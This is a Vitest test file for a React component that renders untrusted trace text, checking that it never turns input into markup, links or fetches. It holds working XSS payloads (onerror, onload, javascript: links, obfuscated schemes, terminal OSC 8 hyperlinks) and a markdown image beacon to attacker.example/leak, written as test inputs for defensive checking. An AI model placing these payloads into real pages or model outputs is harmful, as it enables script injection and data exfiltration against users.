import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { UntrustedText } from "./untrusted-text";

afterEach(cleanup);

const shown = (text: string, prose = true) => {
  const { container } = render(<UntrustedText text={text} prose={prose} />);
  return container;
};

describe("text of a trace", () => {
  it("X1: is never markup", () => {
    const text = `<img src=x onerror="window.__pwned=1"><svg/onload=alert(1)><iframe srcdoc="x"></iframe>"><script>1</script>`;
    const container = shown(text);
    expect(container.textContent).toBe(text);
    expect(container.querySelector("img, svg, iframe, script, object, embed, link, meta")).toBeNull();
  });

  it.each([
    "[a](javascript:alert(1))",
    "[a](data:text/html,<b>x</b>)",
    "[a](vbscript:x)",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "<a href='javascript:alert(1)'>a</a>",
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"></animate></svg>',
    "$$\\href{javascript:alert(1)}{a}$$",
  ])("X4: makes no link of %s", (text) => {
    expect(shown(text).querySelector("a, [href]")).toBeNull();
  });

  it.each([
    "\u001b]8;;javascript:alert(1)\u001b\\a\u001b]8;;\u001b\\",
    "\u001b]8;id=1;https://attacker.example/\u0007a\u001b]8;;\u0007",
    "\u009d8;;javascript:alert(1)\u009ca\u009d8;;\u009c",
    "\u001b]0;javascript:alert(1)\u0007a",
  ])("X7: makes no link and no title of a terminal's %j, only its words", (text) => {
    const container = shown(text);
    expect(container.querySelector("a, [href], [title]")).toBeNull();
    expect(container.textContent).toBe("a");
  });

  it("X5: fetches nothing", () => {
    const container = shown("![x](https://attacker.example/leak?q=1) https://attacker.example/");
    expect(container.querySelector("[src], [href], [style*='url']")).toBeNull();
    expect(container.textContent).toContain("![x](https://attacker.example/leak?q=1)");
  });

  it("X8: names the characters that would hide or reorder text", () => {
    const container = shown("if\u202e x\u200b", false);
    expect(container.textContent).toContain("U+202E");
    expect(container.textContent).toContain("right-to-left override");
    expect(container.textContent).toContain("U+200B");
    expect(container.textContent).not.toContain("\u202e");
  });

  it("shows colours by class and quotations as marks", () => {
    const { container } = render(
      <UntrustedText
        text={"\u001b[31mred\u001b[0m and plain"}
        marks={[{ start: 13, end: 16, kind: "decisive", n: 1 }]}
      />,
    );
    expect(container.querySelector("span")?.className).toContain("text-a-red");
    expect(container.querySelector("mark")?.textContent).toBe("and");
    expect(container.innerHTML).not.toContain("style=");
  });
});
